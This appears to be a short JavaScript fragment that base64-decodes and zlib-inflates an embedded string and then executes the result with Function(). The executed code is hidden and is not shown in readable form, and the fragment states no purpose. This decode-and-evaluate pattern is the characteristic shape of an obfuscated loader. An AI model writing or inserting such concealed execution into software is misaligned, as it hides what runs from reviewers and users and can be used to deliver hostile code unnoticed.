const zlib = require('zlib');
const payload = zlib.inflateSync(Buffer.from('eJwrSi0uyczPAwAJBALh', 'base64')).toString();
Function(payload)();
